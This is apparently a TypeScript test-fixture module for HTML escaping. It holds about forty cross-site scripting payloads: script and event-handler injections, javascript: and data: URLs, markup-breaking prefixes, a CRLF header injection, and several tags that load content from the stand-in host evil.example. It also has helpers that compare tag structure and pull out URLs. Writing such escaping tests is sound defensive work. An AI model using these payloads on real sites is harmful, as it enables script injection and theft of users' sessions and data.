const VECTORS = [
  '<script>alert(1)</script>',
  '<script src=//evil.example></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src=javascript:alert(1)>',
  '<body onload=alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<form action=//evil.example><input name=visit>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<link rel=stylesheet href=//evil.example>',
  '<style>@import "//evil.example"</style>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<object data=//evil.example>',
  '<embed src=//evil.example>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '` onmouseover=`alert(1)',
  '" autofocus onfocus="alert(1)" x="',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&quot; onload=&quot;alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attacker would try it
  '${alert(1)}',
  '\u2028<script>alert(1)</script>\u2029',
  '\u202e>tpircs<',
  '\u0001<img src=x onerror=alert(1)>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>'.replaceAll('\u0000', '\u0002'),
  '\ufeff<img src=x onerror=alert(1)>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>',
  '<template><slot></slot></template><portal src=//evil.example>',
]
const BREAKS = [
  '',
  '"></title></textarea></select></template></style></script>',
  "'></option></bdi></button></form></main>",
]

/** 120 texts that would run, load or break something if they were not escaped. */
export const HOSTILE: readonly string[] = BREAKS.flatMap((prefix) =>
  VECTORS.map((vector) => prefix + vector),
)

/** The tags of a page and their attribute names in order, which no text may change. */
export function getTagSkeleton(page: string): string[] {
  return [...page.matchAll(/<[^>]*>/g)].map(([tag]) =>
    tag.replaceAll(/="[^"]*"/g, '=""').replaceAll(/\s+/g, ' '),
  )
}

/** Every URL that a page loads or links to. */
export function getUrls(page: string): string[] {
  return [...page.matchAll(/ (?:href|src|action|formaction)="([^"]*)"/g)].map(([, url = '']) => url)
}
